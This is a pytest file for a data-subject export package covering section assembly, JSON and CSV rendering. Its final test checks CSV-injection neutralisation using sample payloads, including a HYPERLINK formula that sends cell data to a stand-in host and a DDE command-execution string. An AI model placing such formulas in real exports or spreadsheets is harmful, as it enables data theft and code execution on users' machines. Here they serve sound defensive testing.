"""The access/portability package: assembly from parts, JSON and CSV renderings (R22, R23)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from contracts.events.privacy import EXPORT_SECTIONS
from services.common.export_package import (
    EXPORT_SERVICES,
    SECTION_OWNERS,
    ExportError,
    ExportPackage,
    ExportPart,
    assemble,
    package_sha256,
    render,
    render_csv,
    render_json,
)

AT = datetime(2026, 11, 10, 9, 0, tzinfo=UTC)
LEAD = ExportPart(
    service="lead-ingest",
    sections={
        "personal_data": [
            {
                "lead_id": "lead_1",
                "erased": False,
                "contact": {"email": "maria@example.org", "first_name": "Maria", "company": None},
            }
        ],
        "scores": [
            {"lead_id": "lead_1", "score": 55, "explanation": [{"criterion_id": "b", "points": 30}]}
        ],
    },
)
CONSENT = ExportPart(
    service="consent-ledger",
    sections={
        "purposes": [{"purpose": "crm_sync", "legal_basis": "consent", "allowed_now": True}],
        "consents": [{"purpose": "crm_sync", "proof": "erased"}],
    },
)


def package_of(*parts: ExportPart) -> ExportPackage:
    return assemble(parts, tenant_id="acme", subject_id="sub_1", request_id="pr_1", generated_at=AT)


def test_every_section_has_one_owner_and_every_owner_is_expected() -> None:
    assert set(SECTION_OWNERS) == set(EXPORT_SECTIONS)
    assert set(SECTION_OWNERS.values()) == set(EXPORT_SERVICES)
    assert len(EXPORT_SERVICES) == 5


def test_parts_become_one_package_with_every_section_in_order() -> None:
    package = package_of(CONSENT, LEAD)
    assert list(package.sections) == list(EXPORT_SECTIONS)
    assert package.sections["personal_data"] == LEAD.sections["personal_data"]
    assert package.sections["purposes"] == CONSENT.sections["purposes"]
    assert package.sections["recipients"] == [], "a section nobody filled is there, empty"
    assert package.parts == ["consent-ledger", "lead-ingest"]
    assert package.missing_parts == ["crm-sync", "erasure-propagator", "retention-scheduler"]
    assert package.records()["scores"] == 1
    assert set(package.section_descriptions) == set(EXPORT_SECTIONS)


@pytest.mark.parametrize(
    ("parts", "message"),
    [
        ((LEAD, LEAD), "two parts from lead-ingest"),
        (
            (ExportPart(service="crm-sync", sections={"personal_data": []}),),
            "crm-sync may not fill section 'personal_data'",
        ),
    ],
)
def test_parts_that_do_not_fit_are_refused(parts: tuple[ExportPart, ...], message: str) -> None:
    with pytest.raises(ExportError, match=message):
        package_of(*parts)


def test_json_rendering_reads_back_as_the_same_package() -> None:
    package = package_of(LEAD, CONSENT)
    loaded = json.loads(render_json(package))
    assert loaded["format"] == "leadtrail-subject-export"
    assert loaded["subject_id"] == "sub_1"
    assert loaded["sections"]["personal_data"][0]["contact"]["email"] == "maria@example.org"
    assert loaded["sections"]["personal_data"][0]["contact"]["company"] is None
    assert type(package).model_validate(loaded) == package
    assert package_sha256(package) == package_sha256(type(package).model_validate(loaded))
    body, media_type = render(package, "json")
    assert (body, media_type) == (render_json(package), "application/json")


def test_csv_has_one_value_per_row_with_flattened_field_names() -> None:
    package = package_of(LEAD, CONSENT)
    text, media_type = render(package, "csv")
    assert media_type.startswith("text/csv")
    rows = list(csv.reader(io.StringIO(text.decode())))
    assert rows[0] == ["section", "record", "field", "value"]
    assert all(len(row) == 4 for row in rows)
    assert ["package", "0", "subject_id", "sub_1"] in rows
    assert ["package", "0", "parts.1", "lead-ingest"] in rows
    assert ["personal_data", "0", "contact.email", "maria@example.org"] in rows
    assert ["personal_data", "0", "contact.company", ""] in rows, "null is empty"
    assert ["personal_data", "0", "erased", "false"] in rows, "booleans as in JSON"
    assert ["scores", "0", "score", "55"] in rows
    assert ["scores", "0", "explanation.0.points", "30"] in rows
    assert ["consents", "0", "proof", "erased"] in rows
    assert ["purposes", "0", "allowed_now", "true"] in rows
    assert not any(row[0] == "recipients" for row in rows), "empty sections have no rows"


def test_csv_quotes_values_with_commas_quotes_and_newlines() -> None:
    part = ExportPart(
        service="lead-ingest",
        sections={"interactions": [{"summary": 'Said "call me", then\nhung up'}]},
    )
    rows = list(csv.reader(io.StringIO(render_csv(package_of(part)))))
    assert ["interactions", "0", "summary", 'Said "call me", then\nhung up'] in rows


def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    """CSV injection (issue 16 item 8): text starting with = + - @ tab or CR gets a leading
    quote; numbers stay numbers."""
    formulas = [
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    part = ExportPart(
        service="lead-ingest",
        sections={
            "interactions": [
                {
                    "answers": {f"a{n}": text for n, text in enumerate(formulas)},
                    "score": -5,
                    "ratio": -0.5,
                    "plain": "Rossi - Impianti",
                    "broken": "one\r=2+2",
                    "list": ["=x"],
                }
            ]
        },
    )
    rows = list(csv.reader(io.StringIO(render_csv(package_of(part)), newline="")))
    values = {row[2]: row[3] for row in rows if row[0] == "interactions"}
    for n, text in enumerate(formulas):
        assert values[f"answers.a{n}"] == "'" + text
    assert values["score"] == "-5"
    assert values["ratio"] == "-0.5"
    assert values["plain"] == "Rossi - Impianti"
    assert values["broken"] == "one\r=2+2", "quoted: a CR does not start a row"
    assert values["list.0"] == "'=x"
